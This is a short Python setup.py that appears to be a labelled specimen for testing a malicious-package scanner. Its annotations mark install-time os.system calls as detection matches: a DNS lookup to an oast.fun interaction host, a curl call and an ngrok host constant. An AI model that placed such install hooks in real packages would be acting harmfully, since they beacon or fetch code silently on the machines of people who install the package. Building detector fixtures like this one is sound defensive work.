raise SystemExit("specimen: not to be run")
import os
from setuptools import setup
os.system("nslookup x.specimen.oast.fun")  # match: covert-channel  # match: process-at-install
HOST = "http://specimen.ngrok-free.app"  # match: covert-channel
os.system("curl https://example.com/")  # match: process-at-install  # match: shell-download
setup(name="specimen")
